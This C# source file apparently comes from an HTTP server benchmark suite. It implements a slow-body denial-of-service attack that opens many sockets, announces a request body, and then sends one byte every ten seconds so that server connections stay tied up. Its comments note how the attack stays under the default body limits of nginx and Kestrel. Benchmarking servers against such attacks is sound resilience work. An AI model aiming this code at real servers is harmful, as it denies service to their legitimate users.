using System.Net.Sockets;
using System.Text;

namespace ActorHttp.Bench;

/// <summary>
/// Sockets that send a complete request head announcing a body, then the body at 1 byte every
/// 10 s: each looks like a client on a very bad link, and together they hold connections (and
/// whatever the server keeps for a body in progress) at almost no cost to the attacker.
/// </summary>
public sealed class SlowBodyAttack(int sockets) : SocketAttack(sockets, watchesAnswers: true)
{
    public static readonly TimeSpan Interval = TimeSpan.FromSeconds(10);

    /// <summary>Every server reads this route's body (ActorHttp buffers it for /echo, the Kestrel peer reads it, nginx buffers it to proxy it).</summary>
    public const string Path = "/echo";

    /// <summary>Below every server's default body limit (nginx: 1 MiB), so no server refuses it from the head; at 1 byte per 10 s it never ends.</summary>
    private const int AnnouncedLength = 8192;

    private static readonly byte[] Head = Encoding.ASCII.GetBytes(
        $"POST {Path} HTTP/1.1\r\nHost: bench\r\nContent-Type: application/octet-stream\r\nContent-Length: {AnnouncedLength}\r\n\r\n");

    private static readonly byte[] OneByte = "x"u8.ToArray();

    protected override async Task BeginAsync(Socket socket, int index, AttackSocket state, CancellationToken token) =>
        await socket.SendAsync(Head, SocketFlags.None, token);

    protected override async Task ContinueAsync(Socket socket, AttackSocket state, CancellationToken stop)
    {
        // Each socket starts at its own point of the interval, so the sends are spread evenly.
        await Task.Delay(Random.Shared.Next((int)Interval.TotalMilliseconds), stop);
        while (state.SecondsToClose is null)
        {
            await socket.SendAsync(OneByte, SocketFlags.None, stop);
            await Task.Delay(Interval, stop);
        }
    }
}
